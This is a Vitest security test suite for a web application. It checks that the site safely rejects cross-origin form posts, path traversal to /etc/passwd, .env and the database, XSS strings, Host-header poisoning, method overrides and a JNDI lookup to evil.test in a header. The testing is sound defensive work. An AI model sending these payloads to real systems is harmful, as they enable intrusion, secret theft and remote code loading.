import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Database } from '#server/database/open-database.ts'
import { quoteFields } from '../support/browser/post-form.ts'
import { countRows, openSiteDatabase } from '../support/records/row-counts.ts'
import { sendRequest } from '../support/requests/raw-request.ts'
import { expectSafe } from '../support/requests/safe-answer.ts'
import { type Site, startSite } from '../support/servers/start-site.ts'

let site: Site
let database: Database

beforeAll(async () => {
  site = await startSite()
  database = openSiteDatabase(site)
})
afterAll(async () => {
  await database.close()
  await site.remove()
})

const form = new URLSearchParams(quoteFields()).toString()
const formHeaders: [string, string][] = [
  ['Content-Type', 'application/x-www-form-urlencoded'],
  ['Content-Length', String(form.length)],
]
type Headers = [string, string][]

describe('form from another site', () => {
  const elsewhere: [string, (own: string) => Headers][] = [
    ['another site', () => [['Origin', 'https://evil.test']]],
    ['a sandbox or a file', () => [['Origin', 'null']]],
    ['an unknown place', () => []],
    ['another port', (own) => [['Origin', own.replace(/\d+$/, '1')]]],
    ['a name that begins like the site’s own', (own) => [['Origin', `${own}.evil.test`]]],
    ['our name with a user before it', (own) => [['Origin', own.replace('//', '//x@')]]],
    [
      'two origins',
      (own) => [
        ['Origin', own],
        ['Origin', 'https://evil.test'],
      ],
    ],
    ['another site, by its referrer', () => [['Referer', 'https://evil.test/contact']]],
    ['a broken referrer', () => [['Referer', 'http://']]],
    [
      'across sites, with our origin',
      (own) => [
        ['Origin', own],
        ['Sec-Fetch-Site', 'cross-site'],
      ],
    ],
    [
      'a sister site',
      (own) => [
        ['Origin', own],
        ['Sec-Fetch-Site', 'same-site'],
      ],
    ],
    [
      'no page',
      (own) => [
        ['Origin', own],
        ['Sec-Fetch-Site', 'none'],
      ],
    ],
    [
      'a made-up place',
      (own) => [
        ['Origin', own],
        ['Sec-Fetch-Site', 'same-origin, cross-site'],
      ],
    ],
  ]
  const targets = ['/contact', '/contact.data', '/contact?index', '/home', '/nowhere', '/del-admin-dashboard']

  test.each(elsewhere)(
    'refuses a form from %s at every address and changes nothing',
    async (_from, headersFor) => {
      const before = await countRows(database)
      for (const target of targets) {
        const answer = await sendRequest(
          site,
          'POST',
          target,
          [...formHeaders, ...headersFor(site.url)],
          form,
        )
        expect(answer.status, target).toBe(403)
        expect(answer.body).toMatch(/not sent from our own pages/)
        expectSafe(answer, site, ['evil.test'])
      }
      expect(await countRows(database)).toEqual(before)
    },
  )

  test('accepts the same form from the site’s own page', async () => {
    const headers: Headers = [...formHeaders, ['Origin', site.url], ['Sec-Fetch-Site', 'same-origin']]
    const answer = await sendRequest(site, 'POST', '/contact', headers, form)
    expect(answer.status).toBe(303)
  })
})

describe('broken or invented address', () => {
  const long = 'a'.repeat(300)
  const targets = [
    '//evil.test',
    '///evil.test/%2e%2e',
    '/\\evil.test',
    '/%5cevil.test',
    '/%2f%2fevil.test',
    '/.//evil.test',
    '/home//evil.test',
    '/%',
    '/%0',
    '/%zz',
    '/%00',
    '/home%00.html',
    '/%ff',
    '/%c0%ae%c0%ae/etc/passwd',
    '/%ed%a0%80',
    '/../../../../etc/passwd',
    '/..%2f..%2f..%2f..%2fetc/passwd.txt',
    '/%2e%2e/%2e%2e/package.json',
    '/assets/../../../package.json',
    '/assets/..%5c..%5cpackage.json',
    '/assets/%2e%2e%2fserver/index.js',
    '/assets/',
    '/assets',
    '/assets/nothing.js',
    '/package.json',
    '/server/index.js',
    '/.env',
    '/.git/config',
    '/site.db',
    '/data/site.db',
    '/session-secret',
    `/${long}.txt`,
    `/${'deep/'.repeat(700)}`,
    `/${'a'.repeat(5_000)}`,
    `/${'/'.repeat(100)}`,
    '/home/',
    '/HOME',
    '/home.html',
    '/home;jsessionid=1',
    '/home?',
    '/home?%',
    '/home?a=%00&b=%ff&c[]=1&c[d]=2&__proto__[x]=1',
    `/home?${'a=1&'.repeat(900)}`,
    '/contact?sent=x',
    '/contact?sent=&sent=x.y',
    `/contact?sent=${'A'.repeat(3_000)}`,
    '/contact?sent=__proto__.constructor',
    '/contact?service=<script>alert(31337)</script>&budget=%00',
    '/contact?index',
    '/?next=//evil.test',
    '/_root.data',
    '/home.data',
    '/home.data?_routes=nothing',
    '/home.data?_routes=',
    '/home.data?_routes=routes/site/contact,routes/office/layout',
    '/contact.data?_routes=%00',
    '/contact.data?sent=%ff',
    '/nowhere.data',
    '/.data',
    '/del-admin-dashboard.data',
    '/__manifest',
    '/__manifest?p=%2Fhome&version=1',
    '/__manifest?paths=/../..,//evil.test&version=x',
    '/healthz/',
    '/readyz/../metrics',
    '/<script>alert(31337)</script>',
    '/"onmouseover="alert(31337)',
  ]

  test.each(targets)('%s gets a safe answer', async (target) => {
    for (const method of ['GET', 'HEAD']) {
      const answer = await sendRequest(site, method, target)
      expect(answer.status).toBeGreaterThanOrEqual(200)
      if (method === 'GET') expectSafe(answer, site, ['<script>alert(31337)', '"onmouseover='])
      else if (answer.status !== 400) expect(answer.body).toBe('')
      const location = answer.headers.get('location')
      // Redirects must stay on this site.
      if (location) expect(new URL(location, site.url).origin).toBe(site.url)
      expect(answer.body).not.toMatch(/root:.*:0:0|"dependencies"|SQLite format/)
    }
  })

  test('changes nothing when posted to', async () => {
    const before = await countRows(database)
    const headers: Headers = [...formHeaders, ['Origin', site.url]]
    for (const target of targets.filter((target) => !/^\/contact(\.data)?(\?|$)/.test(target))) {
      const answer = await sendRequest(site, 'POST', target, headers, form)
      // Screens with forms redirect a stranger's data request to the sign-in page; such a redirect is a 202.
      if (answer.status === 202) expect(answer.body, target).toContain('/del-admin-portal-2025')
      else expect(answer.status, target).toBeGreaterThanOrEqual(300)
      expectSafe(answer, site, ['<script>alert(31337)'])
    }
    expect(await countRows(database)).toEqual(before)
  })
})

describe('unused method', () => {
  test.each(['PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'PROPFIND', 'LOCK', 'SEARCH', 'PURGE', 'QUERY'])(
    'refuses %s everywhere',
    async (method) => {
      const before = await countRows(database)
      for (const target of ['/contact', '/home', '/nowhere', '/assets/x.js', '/healthz', '*']) {
        const answer = await sendRequest(site, method, target, [...formHeaders, ['Origin', site.url]], form)
        expect(answer.status, target).toBe(405)
        expect(answer.headers.get('allow')).toBe('GET, HEAD, POST')
        expectSafe(answer, site, ['Content-Length'])
      }
      expect(await countRows(database)).toEqual(before)
    },
  )

  test.each(['GET', 'DELETE'])('does not turn a form into %s by a field or a header', async (method) => {
    const before = await countRows(database)
    const body = `_method=${method}&${form}`
    const headers: Headers = [
      ['Content-Type', 'application/x-www-form-urlencoded'],
      ['Content-Length', String(body.length)],
      ['X-HTTP-Method-Override', method],
      ['Origin', site.url],
    ]
    const answer = await sendRequest(site, 'POST', '/home', headers, body)
    expect(answer.status).toBe(405)
    expect(await countRows(database)).toEqual(before)
  })
})

describe('invented host', () => {
  test.each<[string, Headers]>([
    ['another name', [['Host', 'evil.test']]],
    ['a name with markup', [['Host', '"><script>alert(31337)</script>']]],
    ['a name with a path', [['Host', 'evil.test/home']]],
    ['a user in the name', [['Host', 'x@evil.test']]],
    ['an empty name', [['Host', '']]],
    [
      'two names',
      [
        ['Host', '127.0.0.1'],
        ['Host', 'evil.test'],
      ],
    ],
    ['a port out of range', [['Host', '127.0.0.1:99999999']]],
    [
      'a forwarded name',
      [
        ['X-Forwarded-Host', 'evil.test'],
        ['X-Forwarded-Proto', 'javascript'],
      ],
    ],
    ['a forwarded header', [['Forwarded', 'host=evil.test;proto=https']]],
    [
      'an original address',
      [
        ['X-Original-URL', '/metrics'],
        ['X-Rewrite-URL', '/metrics'],
      ],
    ],
  ])('(%s) is never repeated or cached for the next visitor', async (_name, headers) => {
    for (const target of [
      '/',
      '/home',
      '/contact',
      '/contact?sent=x',
      '/nowhere',
      '/auth',
      '/del-admin-dashboard',
    ]) {
      const answer = await sendRequest(site, 'GET', target, headers)
      expectSafe(answer, site, ['evil.test', '<script>alert(31337)'])
      expect(answer.headers.get('location') ?? '').not.toContain('evil.test')
      const next = await sendRequest(site, 'GET', target)
      expectSafe(next, site, ['evil.test'])
    }
  })
})

test('causes no fault with a hostile header', async () => {
  const before = await countRows(database)
  for (const [name, value] of [
    ['Cookie', `form=${'x'.repeat(3_000)}`],
    ['Cookie', 'theme=<script>; form=..; form=%00; =; ;;;'],
    ['Cookie', '__proto__=1; session=%ff'],
    ['Accept-Encoding', 'br;q=9, gzip;q=-1, *;q=x, identity;q=0'],
    ['Accept-Language', 'xx-'.repeat(500)],
    ['If-None-Match', '"'.repeat(1_000)],
    ['If-Modified-Since', 'never'],
    ['Range', 'bytes=9-1,-5,0-'],
    ['X-Forwarded-For', '::1, 127.0.0.1, <script>'],
    ['Authorization', 'Bearer ../../'],
    ['User-Agent', '\x80\xff$\x7bjndi:ldap://evil.test/a}'],
    ['Referer', '/contact?utm_source=%00'],
    ['Purpose', 'prefetch'],
    ['Upgrade', 'websocket'],
    ['X-React-Router-Prerender-Data', '%5B%5D'],
  ] as Headers) {
    for (const target of ['/home', '/contact', '/contact?sent=x', '/nowhere', '/home.data']) {
      expectSafe(await sendRequest(site, 'GET', target, [[name, value]]), site, ['<script>;', 'evil.test'])
    }
    const answer = await sendRequest(
      site,
      'POST',
      '/home',
      [...formHeaders, ['Origin', site.url], [name, value]],
      form,
    )
    expectSafe(answer, site)
  }
  expect(await countRows(database)).toEqual(before)
})

test('keeps running without printing a fault', async () => {
  expect((await sendRequest(site, 'GET', '/readyz')).status).toBe(200)
  expect(site.output()).not.toMatch(/"level":(50|60)|Error/)
})
